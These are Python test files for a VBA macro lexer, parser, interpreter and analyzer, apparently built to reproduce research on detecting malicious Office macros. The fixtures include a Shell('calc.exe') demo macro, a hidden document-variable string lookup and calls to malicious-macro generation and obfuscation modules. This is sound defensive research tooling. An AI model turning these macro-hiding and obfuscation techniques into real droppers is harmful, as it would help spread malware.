        assert "TRACE — 6 spans" in out

    def test_json_report_includes_suggestion(self, capsys):
        assert main(["stats", str(_CANNED_TRACE), "--format", "json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["suggested_stage_timeout_s"] == 0.5
        assert payload["extract"]["count"] == 2
        assert "document" in payload
