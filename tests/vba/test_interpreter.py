"""Tests for the VBA subset parser and interpreter."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.vba.interpreter import (
    Interpreter,
    VBARuntimeError,
    evaluate_expression,
    run_function,
)
from repro.vba.parser import VBAParseError, parse_module


def run_expr(expression: str, module: str = "") -> object:
    return evaluate_expression(expression, module_source=module)


class TestExpressions:
    @pytest.mark.parametrize(
        "expression, expected",
        [
            ("1 + 2", 3),
            ("2 * 3 + 4", 10),
            ("2 + 3 * 4", 14),
            ("10 / 4", 2.5),
            ("10 \\ 4", 2),
            ("-7 \\ 2", -3),  # truncation toward zero
            ("10 Mod 3", 1),
            ("-10 Mod 3", -1),  # sign of dividend
            ("2 ^ 10", 1024),
            ("2 ^ 3 ^ 2", 512),  # right-associative
            ("-2 ^ 2", -4),  # unary binds looser than ^ on the left operand
            ('"a" & "b"', "ab"),
            ('"a" + "b"', "ab"),
            ('1 & 2', "12"),
            ("1 = 1", True),
            ("1 <> 2", True),
            ('"abc" < "abd"', True),
            ("True And False", False),
            ("True Or False", True),
            ("Not True", False),
            ("5 Xor 3", 6),
            ("True Xor False", True),
            ("&HFF", 255),
            ("&O17", 15),
            ("(1 + 2) * 3", 9),
        ],
    )
    def test_expression_values(self, expression, expected):
        assert run_expr(expression) == expected

    def test_true_is_minus_one_in_arithmetic(self):
        assert run_expr("True + 1") == 0

    def test_division_by_zero(self):
        with pytest.raises(VBARuntimeError):
            run_expr("1 / 0")
        with pytest.raises(VBARuntimeError):
            run_expr("1 \\ 0")
        with pytest.raises(VBARuntimeError):
            run_expr("1 Mod 0")


class TestBuiltins:
    @pytest.mark.parametrize(
        "expression, expected",
        [
            ("Chr(65)", "A"),
            ('Asc("A")', 65),
            ('Len("hello")', 5),
            ('Mid("hello", 2, 3)', "ell"),
            ('Mid("hello", 3)', "llo"),
            ('Left("hello", 2)', "he"),
            ('Right("hello", 3)', "llo"),
            ('Replace("savteRKtofilteRK", "teRK", "e")', "savetofile"),
            ('InStr("hello", "ll")', 3),
            ('InStr("hello", "zz")', 0),
            ('InStr(3, "hello hello", "he")', 7),
            ('LCase("AbC")', "abc"),
            ('UCase("AbC")', "ABC"),
            ('Trim("  x  ")', "x"),
            ("Space(3)", "   "),
            ('String(3, "x")', "xxx"),
            ('StrReverse("abc")', "cba"),
            ('Join(Array("a", "b"), "-")', "a-b"),
            ("UBound(Array(1, 2, 3))", 2),
            ("LBound(Array(1, 2, 3))", 0),
            ("CStr(42)", "42"),
            ('CLng("42")', 42),
            ('Val("&H41")', 65),
            ('Val("12abc")', 12),
            ('Val("junk")', 0),
            ("Hex(255)", "FF"),
            ("Abs(-3)", 3),
            ("Sqr(16)", 4.0),
            ("Int(-1.5)", -2),
            ("Fix(-1.5)", -1),
            ("Sgn(-9)", -1),
            ('IsNumeric("3.5")', True),
            ('IsNumeric("x")', False),
        ],
    )
    def test_builtin_values(self, expression, expected):
        assert run_expr(expression) == expected

    def test_split_builtin(self):
        assert run_expr('Join(Split("a,b,c", ","), "")') == "abc"

    def test_chr_out_of_range(self):
        with pytest.raises(VBARuntimeError):
            run_expr("Chr(-1)")


class TestProceduresAndControlFlow:
    def test_function_return_via_name_assignment(self):
        source = (
            "Function Double_(x As Long) As Long\n"
            "    Double_ = x * 2\n"
            "End Function\n"
        )
        assert run_function(source, "Double_", 21) == 42

    def test_sub_returns_none_and_mutates_global(self):
        source = (
            "Dim total As Long\n"
            "Sub AddTo(x As Long)\n"
            "    total = total + x\n"
            "End Sub\n"
        )
        interp = Interpreter.from_source(source)
        assert interp.call("AddTo", 5) is None
        interp.call("AddTo", 7)
        assert interp.global_value("total") == 12

    def test_if_elseif_else(self):
        source = (
            "Function Classify(x) As String\n"
            "    If x > 10 Then\n"
            '        Classify = "big"\n'
            "    ElseIf x > 5 Then\n"
            '        Classify = "mid"\n'
            "    Else\n"
            '        Classify = "small"\n'
            "    End If\n"
            "End Function\n"
        )
        interp = Interpreter.from_source(source)
        assert interp.call("Classify", 20) == "big"
        assert interp.call("Classify", 7) == "mid"
        assert interp.call("Classify", 1) == "small"

    def test_single_line_if_with_else(self):
        source = (
            "Function Pick(x) As String\n"
            '    If x > 0 Then Pick = "pos" Else Pick = "neg"\n'
            "End Function\n"
        )
        interp = Interpreter.from_source(source)
        assert interp.call("Pick", 3) == "pos"
        assert interp.call("Pick", -3) == "neg"

    def test_for_loop_with_step(self):
        source = (
            "Function SumEven(n) As Long\n"
            "    Dim i As Long\n"
            "    SumEven = 0\n"
            "    For i = 0 To n Step 2\n"
            "        SumEven = SumEven + i\n"
            "    Next i\n"
            "End Function\n"
        )
        assert run_function(source, "SumEven", 10) == 30

    def test_for_loop_descending(self):
        source = (
            "Function CountDown() As String\n"
            "    Dim i As Long\n"
            '    CountDown = ""\n'
            "    For i = 3 To 1 Step -1\n"
            "        CountDown = CountDown & i\n"
            "    Next\n"
            "End Function\n"
        )
        assert run_function(source, "CountDown") == "321"

    def test_for_each_over_array(self):
        source = (
            "Function Concat() As String\n"
            "    Dim item\n"
            '    Concat = ""\n'
            '    For Each item In Array("x", "y", "z")\n'
            "        Concat = Concat & item\n"
            "    Next\n"
            "End Function\n"
        )
        assert run_function(source, "Concat") == "xyz"

    def test_do_while_and_colon_separator(self):
        # Mirrors the paper's Fig. 2 example.
        source = (
            "Sub ueiwjfdjkfdsv()\n"
            "    Dim yruuehdjdnnz As Integer\n"
            "    yruuehdjdnnz = 2\n"
            "    Do While yruuehdjdnnz < 45\n"
            "        DoEvents: yruuehdjdnnz = yruuehdjdnnz + 1\n"
            "    Loop\n"
            "End Sub\n"
        )
        Interpreter.from_source(source).call("ueiwjfdjkfdsv")

    def test_do_loop_while_post_test(self):
        source = (
            "Function AtLeastOnce() As Long\n"
            "    AtLeastOnce = 0\n"
            "    Do\n"
            "        AtLeastOnce = AtLeastOnce + 1\n"
            "    Loop While False\n"
            "End Function\n"
        )
        assert run_function(source, "AtLeastOnce") == 1

    def test_do_until(self):
        source = (
            "Function UpTo5() As Long\n"
            "    UpTo5 = 0\n"
            "    Do Until UpTo5 >= 5\n"
            "        UpTo5 = UpTo5 + 1\n"
            "    Loop\n"
            "End Function\n"
        )
        assert run_function(source, "UpTo5") == 5

    def test_while_wend(self):
        source = (
            "Function W() As Long\n"
            "    W = 0\n"
            "    While W < 3\n"
            "        W = W + 1\n"
            "    Wend\n"
            "End Function\n"
        )
        assert run_function(source, "W") == 3

    def test_exit_for_and_exit_function(self):
        source = (
            "Function FirstOver(limit) As Long\n"
            "    Dim i As Long\n"
            "    For i = 1 To 100\n"
            "        If i * i > limit Then\n"
            "            FirstOver = i\n"
            "            Exit For\n"
            "        End If\n"
            "    Next\n"
            "End Function\n"
        )
        assert run_function(source, "FirstOver", 50) == 8

    def test_exit_sub_skips_rest(self):
        source = (
            "Dim flag As Long\n"
            "Sub Go()\n"
            "    flag = 1\n"
            "    Exit Sub\n"
            "    flag = 2\n"
            "End Sub\n"
        )
        interp = Interpreter.from_source(source)
        interp.call("Go")
        assert interp.global_value("flag") == 1

    def test_procedure_calls_procedure(self):
        source = (
            "Function Add(a, b)\n"
            "    Add = a + b\n"
            "End Function\n"
            "Function Quad(x)\n"
            "    Quad = Add(Add(x, x), Add(x, x))\n"
            "End Function\n"
        )
        assert run_function(source, "Quad", 3) == 12

    def test_call_statement_forms(self):
        source = (
            "Dim log As String\n"
            "Sub Append(s)\n"
            "    log = log & s\n"
            "End Sub\n"
            "Sub Main()\n"
            '    log = ""\n'
            '    Call Append("a")\n'
            '    Append "b"\n'
            '    Append ("c")\n'
            "End Sub\n"
        )
        interp = Interpreter.from_source(source)
        interp.call("Main")
        assert interp.global_value("log") == "abc"


class TestArraysAndState:
    def test_dim_array_and_element_assignment(self):
        source = (
            "Function Build() As String\n"
            "    Dim items(2)\n"
            '    items(0) = "a"\n'
            '    items(1) = "b"\n'
            '    items(2) = "c"\n'
            '    Build = Join(items, "")\n'
            "End Function\n"
        )
        assert run_function(source, "Build") == "abc"

    def test_subscript_out_of_range(self):
        source = (
            "Sub Boom()\n"
            "    Dim a(1)\n"
            '    a(5) = "x"\n'
            "End Sub\n"
        )
        with pytest.raises(VBARuntimeError):
            Interpreter.from_source(source).call("Boom")

    def test_module_level_const(self):
        source = (
            'Public Const prefix = "ab"\n'
            "Function WithPrefix(s) As String\n"
            "    WithPrefix = prefix & s\n"
            "End Function\n"
        )
        assert run_function(source, "WithPrefix", "c") == "abc"

    def test_undefined_name_raises(self):
        with pytest.raises(VBARuntimeError):
            run_expr("nosuchname123")

    def test_step_budget(self):
        source = (
            "Sub Forever()\n"
            "    Do While True\n"
            "        DoEvents\n"
            "    Loop\n"
            "End Sub\n"
        )
        interp = Interpreter.from_source(source, max_steps=1000)
        with pytest.raises(VBARuntimeError):
            interp.call("Forever")


class TestHostValues:
    def test_hidden_string_lookup(self):
        source = (
            "Function GetIt() As String\n"
            '    GetIt = ActiveDocument.Variables("waGnXV").Value()\n'
            "End Function\n"
        )
        host = {'ActiveDocument.Variables("waGnXV").Value()': "calc.exe"}
        assert run_function(source, "GetIt", host_values=host) == "calc.exe"

    def test_unknown_member_access_raises(self):
        source = (
            "Function GetIt() As String\n"
            "    GetIt = UserForm1.Label1.Caption\n"
            "End Function\n"
        )
        with pytest.raises(VBARuntimeError):
            run_function(source, "GetIt")


class TestParserErrors:
    def test_broken_code_raises_parse_error(self):
        # Fig. 8(b): ``Colu.mns("A:A").Delete`` — `mns(...)` after `.` parses,
        # but the statement form `Selection.RowHeight = 15` is a member
        # assignment (tolerated); truly broken syntax must raise.
        with pytest.raises(VBAParseError):
            parse_module("Sub A()\n    For = ) (\nEnd Sub\n")

    def test_unsupported_statement(self):
        with pytest.raises(VBAParseError):
            parse_module("Sub A()\n    GoTo label1\nEnd Sub\n")

    def test_missing_end_sub(self):
        with pytest.raises(VBAParseError):
            parse_module("Sub A()\n    x = 1\n")


class TestPropertyBased:
    @given(st.integers(min_value=-10_000, max_value=10_000))
    def test_identity_through_arithmetic(self, value):
        assert run_expr(f"({value} * 3 - {value} * 2) * 1") == value

    @given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=40))
    def test_chr_asc_round_trip(self, text):
        source = (
            "Function Rebuild(s) As String\n"
            "    Dim i As Long\n"
            '    Rebuild = ""\n'
            "    For i = 1 To Len(s)\n"
            "        Rebuild = Rebuild & Chr(Asc(Mid(s, i, 1)))\n"
            "    Next\n"
            "End Function\n"
        )
        assert run_function(source, "Rebuild", text) == text

    @given(st.lists(st.integers(min_value=0, max_value=255), min_size=1, max_size=20))
    def test_array_sum_matches_python(self, values):
        array_literal = ", ".join(str(v) for v in values)
        source = (
            "Function Total(a) As Long\n"
            "    Dim i As Long\n"
            "    Total = 0\n"
            "    For i = LBound(a) To UBound(a)\n"
            "        Total = Total + a(i)\n"
            "    Next\n"
            "End Function\n"
            "Function Go() As Long\n"
            f"    Go = Total(Array({array_literal}))\n"
            "End Function\n"
        )
        assert run_function(source, "Go") == sum(values)


class TestWithBlocks:
    def test_with_block_body_executes(self):
        source = (
            "Dim hits As Long\n"
            "Sub Go()\n"
            "    With ActiveSheet\n"
            "        .Name = \"x\"\n"
            "        hits = hits + 1\n"
            "    End With\n"
            "End Sub\n"
        )
        interp = Interpreter.from_source(source)
        interp.call("Go")
        assert interp.global_value("hits") == 1

    def test_nested_with(self):
        source = (
            "Function F() As Long\n"
            "    F = 0\n"
            "    With A\n"
            "        With B\n"
            "            F = F + 1\n"
            "        End With\n"
            "        F = F + 1\n"
            "    End With\n"
            "End Function\n"
        )
        assert run_function(source, "F") == 2

    def test_unterminated_with_raises(self):
        from repro.vba.parser import VBAParseError, parse_module

        with pytest.raises(VBAParseError):
            parse_module("Sub A()\n    With X\n        y = 1\nEnd Sub\n")
