"""Tests for the structural analyzer."""

from repro.vba.analyzer import analyze

CALC_MACRO = (
    "Sub StartCalculator()\n"
    "    Dim Program As String\n"
    "    Dim TaskID As Double\n"
    "    On Error Resume Next\n"
    '    Program = "calc.exe"\n'
    "    'Run calculator program using Shell()\n"
    "    TaskID = Shell(Program, 1)\n"
    "    If Err <> 0 Then\n"
    '        MsgBox "Cannot start " & Program\n'
    "    End If\n"
    "End Sub\n"
)


class TestDeclarations:
    def test_procedure_name_is_declared(self):
        analysis = analyze(CALC_MACRO)
        assert "StartCalculator" in analysis.declared_identifiers
        assert analysis.procedure_names == ["StartCalculator"]

    def test_dim_variables_are_declared(self):
        analysis = analyze(CALC_MACRO)
        assert "Program" in analysis.declared_identifiers
        assert "TaskID" in analysis.declared_identifiers

    def test_multi_variable_dim(self):
        analysis = analyze("Dim a As Long, b As String, c\n")
        assert {"a", "b", "c"} <= set(analysis.declared_identifiers)

    def test_const_declaration_skips_initializer(self):
        analysis = analyze('Public Const pzonda = "a"\n')
        assert "pzonda" in analysis.declared_identifiers

    def test_function_parameters_are_declared(self):
        source = "Function Add(ByVal x As Long, Optional y As Long) As Long\nEnd Function\n"
        analysis = analyze(source)
        assert {"Add", "x", "y"} <= set(analysis.declared_identifiers)

    def test_parameter_types_are_not_declared(self):
        source = "Function F(a As Variant) As Long\nEnd Function\n"
        analysis = analyze(source)
        assert "Variant" not in analysis.declared_identifiers

    def test_for_each_variable(self):
        analysis = analyze("For Each cell In Columns(1).Cells\nNext\n")
        assert "cell" in analysis.declared_identifiers

    def test_for_loop_variable(self):
        analysis = analyze("For i = 1 To 10\nNext i\n")
        assert "i" in analysis.declared_identifiers

    def test_end_sub_declares_nothing(self):
        analysis = analyze("Sub A()\nEnd Sub\n")
        assert analysis.declared_identifiers == ["A"]

    def test_property_procedure(self):
        source = "Property Get Count() As Long\nEnd Property\n"
        analysis = analyze(source)
        assert "Count" in analysis.procedure_names

    def test_declarations_are_deduplicated(self):
        analysis = analyze("Dim x\nDim x\n")
        assert analysis.declared_identifiers.count("x") == 1


class TestCallSites:
    def test_parenthesized_call(self):
        analysis = analyze(CALC_MACRO)
        names = [c.name for c in analysis.call_sites]
        assert "Shell" in names

    def test_statement_style_builtin_call(self):
        analysis = analyze("Sub T()\n    Shell prog, 1\nEnd Sub\n")
        assert any(c.name == "Shell" for c in analysis.call_sites)

    def test_call_keyword(self):
        analysis = analyze("Call Helper\n")
        assert any(c.name == "Helper" for c in analysis.call_sites)

    def test_member_call_flagged(self):
        analysis = analyze('doc.SaveAs ("out.doc")\nx = Foo(1)\n')
        members = {c.name: c.is_member for c in analysis.call_sites}
        assert members.get("SaveAs") is True
        assert members.get("Foo") is False

    def test_builtin_fraction(self):
        source = 'Sub T()\n    a = Chr(65)\n    b = Mid(s, 1, 2)\n    c = Foo(1)\nEnd Sub\n'
        analysis = analyze(source)
        from repro.vba.functions import TEXT_FUNCTIONS

        assert analysis.called_builtin_fraction(TEXT_FUNCTIONS) == 2 / 3

    def test_builtin_fraction_empty(self):
        analysis = analyze("Dim x\n")
        from repro.vba.functions import TEXT_FUNCTIONS

        assert analysis.called_builtin_fraction(TEXT_FUNCTIONS) == 0.0


class TestTextMeasures:
    def test_strings_collected(self):
        analysis = analyze(CALC_MACRO)
        assert "calc.exe" in analysis.string_literals

    def test_comments_collected(self):
        analysis = analyze(CALC_MACRO)
        assert len(analysis.comments) == 1

    def test_code_without_comments_drops_comment_text(self):
        analysis = analyze(CALC_MACRO)
        assert "Run calculator" not in analysis.code_without_comments
        assert "Shell(Program, 1)" in analysis.code_without_comments

    def test_words_split_on_symbols(self):
        analysis = analyze('x=Foo(1,"ab cd")')
        assert "x" in analysis.words
        assert "Foo" in analysis.words
        assert "ab" in analysis.words

    def test_operator_count(self):
        analysis = analyze('s = "a" & "b" + "c"\n')
        assert analysis.operator_count(frozenset({"&", "+"})) == 2
