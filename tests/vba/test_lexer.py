"""Unit and property tests for the VBA lexer."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.vba.lexer import significant_tokens, tokenize
from repro.vba.tokens import Token, TokenKind


def kinds(source: str) -> list[TokenKind]:
    return [t.kind for t in significant_tokens(source)]


def texts_of_kind(source: str, kind: TokenKind) -> list[str]:
    return [t.text for t in significant_tokens(source) if t.kind is kind]


class TestBasicTokens:
    def test_empty_source_yields_only_eof(self):
        tokens = tokenize("")
        assert len(tokens) == 1
        assert tokens[0].kind is TokenKind.EOF

    def test_identifier_and_keyword(self):
        tokens = significant_tokens("Dim counter As Integer")
        assert [t.kind for t in tokens] == [
            TokenKind.KEYWORD,
            TokenKind.IDENTIFIER,
            TokenKind.KEYWORD,
            TokenKind.KEYWORD,
        ]
        assert tokens[1].text == "counter"

    def test_keywords_are_case_insensitive(self):
        for variant in ("dim", "DIM", "Dim", "dIm"):
            assert kinds(variant) == [TokenKind.KEYWORD]

    def test_identifier_with_type_suffix(self):
        tokens = significant_tokens("name$ = 5")
        assert tokens[0].kind is TokenKind.IDENTIFIER
        assert tokens[0].text == "name$"

    def test_operators(self):
        source = "a <= b >= c <> d := e & f"
        ops = texts_of_kind(source, TokenKind.OPERATOR)
        assert ops == ["<=", ">=", "<>", ":=", "&"]

    def test_punctuation(self):
        source = "Foo(a, b).Bar"
        punct = texts_of_kind(source, TokenKind.PUNCT)
        assert punct == ["(", ",", ")", "."]


class TestStrings:
    def test_simple_string(self):
        tokens = significant_tokens('x = "hello"')
        strings = [t for t in tokens if t.kind is TokenKind.STRING]
        assert len(strings) == 1
        assert strings[0].string_value == "hello"

    def test_escaped_quote(self):
        tokens = significant_tokens('x = "say ""hi"" now"')
        strings = [t for t in tokens if t.kind is TokenKind.STRING]
        assert strings[0].string_value == 'say "hi" now'

    def test_unterminated_string_is_tolerated(self):
        tokens = significant_tokens('x = "oops')
        strings = [t for t in tokens if t.kind is TokenKind.STRING]
        assert len(strings) == 1

    def test_string_does_not_span_lines(self):
        tokens = significant_tokens('x = "abc\ny = 1')
        strings = [t for t in tokens if t.kind is TokenKind.STRING]
        assert len(strings) == 1
        assert "\n" not in strings[0].text

    def test_string_value_raises_on_non_string(self):
        token = Token(TokenKind.IDENTIFIER, "foo", 1, 1)
        with pytest.raises(ValueError):
            _ = token.string_value


class TestComments:
    def test_apostrophe_comment(self):
        tokens = significant_tokens("x = 1 ' trailing comment")
        comments = [t for t in tokens if t.kind is TokenKind.COMMENT]
        assert len(comments) == 1
        assert comments[0].comment_value == " trailing comment"

    def test_rem_comment(self):
        tokens = significant_tokens("Rem whole line comment\nx = 1")
        comments = [t for t in tokens if t.kind is TokenKind.COMMENT]
        assert len(comments) == 1
        assert "whole line comment" in comments[0].text

    def test_rem_requires_word_boundary(self):
        # ``Remote`` is an identifier, not a Rem comment.
        tokens = significant_tokens("Remote = 1")
        assert tokens[0].kind is TokenKind.IDENTIFIER

    def test_apostrophe_inside_string_is_not_comment(self):
        tokens = significant_tokens('x = "don\'t panic"')
        assert not [t for t in tokens if t.kind is TokenKind.COMMENT]


class TestNumbers:
    @pytest.mark.parametrize(
        "literal",
        ["42", "3.14", "1e10", "2.5E-3", "7&", "9%", "0.5#", ".25"],
    )
    def test_decimal_forms(self, literal):
        tokens = significant_tokens(f"x = {literal}")
        numbers = [t for t in tokens if t.kind is TokenKind.NUMBER]
        assert len(numbers) == 1
        assert numbers[0].text == literal

    def test_hex_literal(self):
        tokens = significant_tokens("x = &HFF")
        numbers = [t for t in tokens if t.kind is TokenKind.NUMBER]
        assert numbers[0].text == "&HFF"

    def test_octal_literal(self):
        tokens = significant_tokens("x = &O777")
        numbers = [t for t in tokens if t.kind is TokenKind.NUMBER]
        assert numbers[0].text == "&O777"

    def test_ampersand_alone_is_operator(self):
        tokens = significant_tokens('"a" & "b"')
        assert texts_of_kind('"a" & "b"', TokenKind.OPERATOR) == ["&"]


class TestDatesAndContinuations:
    def test_date_literal(self):
        tokens = significant_tokens("d = #1/15/2016#")
        dates = [t for t in tokens if t.kind is TokenKind.DATE]
        assert len(dates) == 1
        assert dates[0].text == "#1/15/2016#"

    def test_lone_hash_is_punct(self):
        tokens = significant_tokens("Open f For Output As #1")
        assert not [t for t in tokens if t.kind is TokenKind.DATE]

    def test_line_continuation(self):
        source = 'x = "a" & _\n    "b"'
        tokens = tokenize(source)
        assert any(t.kind is TokenKind.LINE_CONTINUATION for t in tokens)
        # Continuation means no NEWLINE token between the two strings.
        assert not any(t.kind is TokenKind.NEWLINE for t in tokens)


class TestPositions:
    def test_line_and_column_tracking(self):
        tokens = significant_tokens("a = 1\nbb = 2")
        by_text = {t.text: t for t in tokens if t.kind is TokenKind.IDENTIFIER}
        assert by_text["a"].line == 1
        assert by_text["a"].column == 1
        assert by_text["bb"].line == 2
        assert by_text["bb"].column == 1

    def test_positions_across_line_continuation(self):
        # The continued statement spans three physical lines; every token
        # must report the physical line/column it actually sits on.
        source = 'x = "a" & _\n    "b" & _\n    "c"\ny = 1'
        tokens = significant_tokens(source)
        strings = [t for t in tokens if t.kind is TokenKind.STRING]
        assert [(t.text, t.line, t.column) for t in strings] == [
            ('"a"', 1, 5),
            ('"b"', 2, 5),
            ('"c"', 3, 5),
        ]
        y = next(t for t in tokens if t.text == "y")
        assert (y.line, y.column) == (4, 1)

    def test_positions_with_crlf_line_endings(self):
        tokens = significant_tokens("a = 1\r\nbb = 2\r\nccc = 3")
        by_text = {t.text: t for t in tokens if t.kind is TokenKind.IDENTIFIER}
        assert (by_text["bb"].line, by_text["bb"].column) == (2, 1)
        assert (by_text["ccc"].line, by_text["ccc"].column) == (3, 1)

    def test_positions_with_lone_cr_line_endings(self):
        # Classic-Mac line endings: a lone CR terminates the line too.
        tokens = significant_tokens("a = 1\rbb = 2\rccc = 3")
        by_text = {t.text: t for t in tokens if t.kind is TokenKind.IDENTIFIER}
        assert (by_text["bb"].line, by_text["bb"].column) == (2, 1)
        assert (by_text["ccc"].line, by_text["ccc"].column) == (3, 1)

    def test_column_resumes_after_string_and_comment(self):
        tokens = significant_tokens('s = "hi"  \' note\nt = 2')
        comment = next(t for t in tokens if t.kind is TokenKind.COMMENT)
        assert (comment.line, comment.column) == (1, 11)
        t = next(tok for tok in tokens if tok.text == "t")
        assert (t.line, t.column) == (2, 1)


class TestLosslessness:
    REALISTIC = (
        "Sub StartCalculator()\n"
        "    Dim Program As String\n"
        "    Dim TaskID As Double\n"
        "    On Error Resume Next\n"
        '    Program = "calc.exe"\n'
        "\n"
        "    'Run calculator program using Shell()\n"
        "    TaskID = Shell(Program, 1)\n"
        "    If Err <> 0 Then\n"
        '        MsgBox "Can\'t start " & Program\n'
        "    End If\n"
        "End Sub\n"
    )

    def test_round_trip_realistic_macro(self):
        tokens = tokenize(self.REALISTIC)
        assert "".join(t.text for t in tokens) == self.REALISTIC

    @given(
        st.text(
            alphabet=string.ascii_letters + string.digits + " \t\n\"'&+=()<>.,_:#",
            max_size=400,
        )
    )
    def test_round_trip_arbitrary_text(self, source):
        tokens = tokenize(source)
        assert "".join(t.text for t in tokens) == source

    @given(st.text(max_size=200))
    def test_round_trip_fully_arbitrary_unicode(self, source):
        tokens = tokenize(source)
        assert "".join(t.text for t in tokens) == source
