"""Tests for the AST unparser."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.corpus.benign import generate_benign_macro
from repro.corpus.malicious import generate_malicious_macro
from repro.vba.interpreter import run_function
from repro.vba.parser import parse_module
from repro.vba.unparser import unparse_expression, unparse_module

ROUND_TRIP_SOURCES = [
    # Expressions with every operator / precedence interaction.
    "Function F(a, b)\n    F = a + b * 2 - (a - b) \\ 3 Mod 2\nEnd Function\n",
    'Function G(s)\n    G = "x" & s & Chr(65) & UCase(Mid(s, 1, 2))\nEnd Function\n',
    "Function H(x)\n    H = Not (x > 1 And x < 9 Or x = 5)\nEnd Function\n",
    "Function P(x)\n    P = 2 ^ x ^ 2\nEnd Function\n",
    # Statements.
    "Sub S()\n    Dim a(5)\n    a(0) = 1\n    a(1) = a(0) + 1\nEnd Sub\n",
    (
        "Sub T()\n"
        "    Dim i As Long\n"
        "    For i = 1 To 10 Step 2\n"
        "        If i > 5 Then\n"
        "            Exit For\n"
        "        ElseIf i = 3 Then\n"
        "            i = i + 1\n"
        "        Else\n"
        "            DoEvents\n"
        "        End If\n"
        "    Next i\n"
        "End Sub\n"
    ),
    (
        "Sub U()\n"
        "    Dim x\n"
        "    Do While x < 5\n"
        "        x = x + 1\n"
        "    Loop\n"
        "    Do\n"
        "        x = x - 1\n"
        "    Loop While x > 0\n"
        "End Sub\n"
    ),
    (
        "Sub V()\n"
        "    Dim item\n"
        '    For Each item In Array(1, 2, 3)\n'
        "        total = total + item\n"
        "    Next item\n"
        "End Sub\n"
    ),
    # Member access and host-style statements.
    (
        "Sub W()\n"
        "    Selection.RowHeight = 15\n"
        '    doc.SaveAs "out.doc", 1\n'
        "    x = ActiveDocument.Content.Font.Size\n"
        "End Sub\n"
    ),
    'Const greeting = "say ""hi"" now"\n',
]


def normalize(source: str, tolerant: bool = False) -> str:
    return unparse_module(parse_module(source, tolerant=tolerant))


class TestFixpoint:
    @pytest.mark.parametrize("source", ROUND_TRIP_SOURCES)
    def test_unparse_reaches_fixpoint(self, source):
        once = normalize(source)
        twice = normalize(once)
        assert once == twice

    @pytest.mark.parametrize("seed", range(8))
    def test_generated_benign_macros_fixpoint(self, seed):
        source = generate_benign_macro(random.Random(seed))
        once = normalize(source, tolerant=True)
        assert normalize(once, tolerant=True) == once

    @pytest.mark.parametrize("seed", range(8))
    def test_generated_malicious_macros_fixpoint(self, seed):
        source = generate_malicious_macro(random.Random(seed), "excel")
        once = normalize(source, tolerant=True)
        assert normalize(once, tolerant=True) == once


class TestSemanticsPreserved:
    def test_arith_function_same_results(self):
        source = (
            "Function Mix(a, b)\n"
            "    Mix = (a + b) * (a - b) \\ 2 Mod 7 + a ^ 2\n"
            "End Function\n"
        )
        rendered = normalize(source)
        for a, b in ((3, 1), (10, 4), (-5, 2)):
            assert run_function(rendered, "Mix", a, b) == run_function(
                source, "Mix", a, b
            )

    def test_string_function_same_results(self):
        source = (
            "Function Build(s)\n"
            '    Build = UCase(Left(s, 3)) & "-" & Len(s) & "-" & '
            "StrReverse(s)\n"
            "End Function\n"
        )
        rendered = normalize(source)
        for value in ("hello", "x", "abcdef"):
            assert run_function(rendered, "Build", value) == run_function(
                source, "Build", value
            )

    def test_control_flow_same_results(self):
        source = (
            "Function Collatz(n)\n"
            "    Dim steps As Long\n"
            "    Do While n > 1\n"
            "        If n Mod 2 = 0 Then\n"
            "            n = n \\ 2\n"
            "        Else\n"
            "            n = 3 * n + 1\n"
            "        End If\n"
            "        steps = steps + 1\n"
            "    Loop\n"
            "    Collatz = steps\n"
            "End Function\n"
        )
        rendered = normalize(source)
        for n in (1, 6, 27):
            assert run_function(rendered, "Collatz", n) == run_function(
                source, "Collatz", n
            )

    @settings(max_examples=25, deadline=None)
    @given(
        a=st.integers(min_value=-100, max_value=100),
        b=st.integers(min_value=1, max_value=100),
    )
    def test_property_arith_round_trip(self, a, b):
        source = (
            "Function F(a, b)\n"
            "    F = a * 3 - b \\ 2 + (a Mod b) & \"!\"\n"
            "End Function\n"
        )
        rendered = normalize(source)
        assert run_function(rendered, "F", a, b) == run_function(source, "F", a, b)


class TestExpressionRendering:
    def test_precedence_parentheses_kept_where_needed(self):
        source = "Function F(a, b)\n    F = (a + b) * 2\nEnd Function\n"
        rendered = normalize(source)
        assert "(a + b) * 2" in rendered

    def test_no_redundant_parentheses(self):
        source = "Function F(a, b)\n    F = (a * b) + 2\nEnd Function\n"
        rendered = normalize(source)
        assert "a * b + 2" in rendered

    def test_string_literal_escaping(self):
        from repro.vba import ast_nodes as ast

        rendered = unparse_expression(ast.Literal('say "hi"'))
        assert rendered == '"say ""hi"" now"'.replace(" now", "")

    def test_power_right_associativity(self):
        source = "Function F(x)\n    F = 2 ^ 3 ^ 2\nEnd Function\n"
        rendered = normalize(source)
        assert run_function(rendered, "F", 0) == 512
