"""Parser edge cases: continuations, colon statements, Const lists.

Real-world macro sources (and the corpus obfuscator's output) lean on
syntax the happy-path tests skipped: ``_`` line continuations with
trailing whitespace, colon-separated statement sequences, multi-name
``Const`` declarations.  Each case round-trips parser → unparser →
parser to prove the AST is faithful, and a property sweep over the
synthetic corpus keeps the tolerant mode total.
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.corpus.benign import generate_benign_module
from repro.corpus.malicious import generate_malicious_macro
from repro.obfuscation.pipeline import default_pipeline
from repro.vba import ast_nodes as ast
from repro.vba.parser import parse_module
from repro.vba.unparser import unparse_module


def roundtrip(source: str) -> ast.Module:
    """parse → unparse → parse; both parses must agree structurally."""
    first = parse_module(source)
    rendered = unparse_module(first)
    second = parse_module(rendered)
    assert unparse_module(second) == rendered
    return first


class TestLineContinuations:
    def test_continuation_inside_expression(self):
        module = roundtrip("Sub A()\n    x = 1 + _\n        2\nEnd Sub")
        statement = module.procedures["a"].body[0]
        assert isinstance(statement, ast.Assign)

    def test_continuation_with_trailing_whitespace(self):
        # a trailing blank after the ``_`` is invisible in an editor and
        # common in pasted samples; it must still splice the line
        module = roundtrip("Sub A()\n    x = 1 + _ \n        2\nEnd Sub")
        assert module.procedures["a"].body

    def test_continuation_in_argument_list(self):
        module = roundtrip(
            "Sub A()\n"
            "    v = Mid( _\n"
            '        "payload", _\n'
            "        1, 3)\n"
            "End Sub"
        )
        assert isinstance(module.procedures["a"].body[0], ast.Assign)


class TestColonStatements:
    def test_colon_separated_sequence(self):
